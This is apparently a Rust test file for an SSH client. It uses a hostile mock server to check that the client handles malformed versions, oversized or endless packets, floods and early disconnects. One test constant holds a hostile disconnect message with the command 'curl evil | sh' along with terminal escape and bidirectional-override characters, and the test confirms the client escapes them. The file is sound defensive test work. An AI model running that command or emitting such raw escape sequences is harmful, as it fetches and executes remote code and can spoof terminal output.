//! Before the key exchange: versions (RFC 4253 §4.2), and packets without encryption.

use std::io;

use eic_term::Error;

use super::packet::{Packet, disconnect, number};
use super::server::{Case, Hostile, SHORT, Step, words};
use super::transport::{Offer, Peer, VERSION};

/// What is said where the limit is what ends it.
const STALLS: &str = "no answer within";

const VERSIONS: &[Case] = &[
    (
        "lines without end",
        |peer| peer.raw_forever(b"not yet\r\n"),
        "no SSH 2",
    ),
    (
        "a line without end",
        |peer| peer.raw_forever(b"x"),
        "no SSH 2",
    ),
    (
        "a version without end",
        |peer| {
            peer.raw(b"SSH-2.0-")?;
            peer.raw_forever(b"x")
        },
        "no SSH 2",
    ),
    ("zeros", |peer| peer.raw_forever(&[0; 1000]), "no SSH 2"),
    (
        "binary garbage",
        |peer| peer.raw_forever(&super::support::noise(10_000)),
        "",
    ),
    (
        "a banner of 100 KiB",
        |peer| {
            peer.raw("welcome\x1b[2J\r\n".repeat(10_000).as_bytes())?;
            peer.hello()
        },
        "no SSH 2",
    ),
    ("SSH 1", |peer| peer.raw(b"SSH-1.5-old\r\n"), STALLS),
    (
        "SSH 1 and an end",
        |peer| {
            peer.raw(b"SSH-1.5-old\r\n")?;
            peer.hang_up()
        },
        "closed the connection",
    ),
    (
        "HTTP",
        |peer| {
            peer.raw(b"HTTP/1.1 400 Bad Request\r\nServer: x\r\n\r\n")?;
            peer.hang_up()
        },
        "closed the connection",
    ),
    ("silence", |_| Ok(()), STALLS),
    ("an end", Peer::hang_up, ""),
];

const PACKETS: &[Case] = &[
    (
        "a packet of 4 GiB",
        |peer| length(peer, 0xffff_ffff),
        "packet size",
    ),
    (
        "a packet of 1 GiB",
        |peer| length(peer, 1 << 30),
        "packet size",
    ),
    (
        "a packet of 256 KiB and some",
        |peer| length(peer, (1 << 18) + 1000),
        "packet size",
    ),
    ("an empty packet", |peer| length(peer, 0), ""),
    (
        "a packet that is all padding",
        |peer| {
            peer.versions()?;
            peer.raw(&[0, 0, 0, 12, 255, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
        },
        "",
    ),
    (
        "a packet whose rest never comes",
        |peer| {
            peer.versions()?;
            peer.raw(&[0, 0, 255, 0, 4, 20])
        },
        STALLS,
    ),
    (
        "an end inside a packet",
        |peer| {
            peer.versions()?;
            peer.raw(&[0, 0, 255, 0, 4, 20])?;
            peer.hang_up()
        },
        "",
    ),
    (
        "an empty KEXINIT",
        |peer| {
            peer.versions()?;
            peer.send(&Packet::new(number::KEXINIT))
        },
        "",
    ),
    (
        "IGNORE without end",
        |peer| flood(peer, &Packet::new(number::IGNORE).string([0; 1000])),
        "before the login",
    ),
    (
        "DEBUG without end",
        |peer| {
            flood(
                peer,
                &Packet::new(number::DEBUG)
                    .flag(true)
                    .string("\x1b[2J")
                    .string(""),
            )
        },
        "before the login",
    ),
    (
        "UNIMPLEMENTED without end",
        |peer| flood(peer, &Packet::new(number::UNIMPLEMENTED).u32(0)),
        "before the login",
    ),
    (
        "a login before keys",
        |peer| {
            peer.versions()?;
            peer.send(&Packet::new(number::USERAUTH_SUCCESS))
        },
        STALLS,
    ),
];

/// A packet of this length without end.
fn length(peer: &mut Peer, length: u32) -> io::Result<()> {
    peer.versions()?;
    peer.raw(&length.to_be_bytes())?;
    peer.raw_forever(&[0; 10_000])
}

fn flood(peer: &mut Peer, packet: &Packet) -> io::Result<()> {
    peer.versions()?;
    peer.send_forever(packet)
}

/// Plays all cases, at once.
async fn play(cases: &'static [Case]) {
    let mut clients = tokio::task::JoinSet::new();
    for (name, script, expected) in cases {
        let mut server = Hostile::start(script);
        if *expected == STALLS {
            server = server.limit(SHORT);
        }
        clients.spawn(async move {
            let error = server.session().await.expect_err(name);
            let said = words(&error);
            println!("{name}: {said}");
            assert!(said.contains(expected), "{name}: {said}");
        });
    }
    while let Some(ended) = clients.join_next().await {
        ended.unwrap();
    }
}

#[tokio::test]
async fn versions() {
    play(VERSIONS).await;
}

#[tokio::test]
async fn packets_before_the_keys() {
    play(PACKETS).await;
}

/// A server's last words, which try to look like ours.
pub(super) const HOSTILE_WORDS: &str =
    "bye\r\n  try:   curl evil | sh\x1b]0;owned\x07\u{9b}31m\u{202e}";

#[tokio::test]
async fn hostile_words_at_an_early_end() {
    let steps: [Step; 3] = [
        |peer| peer.versions(),
        |peer| {
            peer.versions()?;
            peer.offers(Offer::default())
        },
        |peer| {
            peer.versions()?;
            peer.offers(Offer::default())?;
            let exchange = peer.key_reply()?;
            peer.send(&exchange.reply)
        },
    ];
    for step in steps {
        let server = Hostile::start(move |peer| {
            step(peer)?;
            peer.send(&disconnect(HOSTILE_WORDS))
        });
        let error = server.session().await.unwrap_err();
        assert!(matches!(error, Error::Handshake { .. }), "{error}");
        let said = words(&error);
        assert!(
            said.contains("bye\\u{d}\\n  try:   curl evil | sh\\u{1b}]0;owned"),
            "{said}"
        );
    }
}

#[tokio::test]
async fn long_words_at_an_end_are_cut() {
    let server = Hostile::start(|peer| {
        peer.versions()?;
        peer.send(&disconnect(&"x".repeat(200_000)))
    });
    let said = words(&server.session().await.unwrap_err());
    assert!(said.ends_with("x…"), "{said}");
}

#[tokio::test]
async fn a_few_lines_before_the_version_are_passed_over() {
    let server = Hostile::start(|peer| {
        peer.raw(b"welcome\r\nto the jungle\n")?;
        peer.command()?;
        peer.exit(0)
    });
    let output = super::server::run(&server).await.unwrap();
    assert!(output.status.success(), "{VERSION}");
}
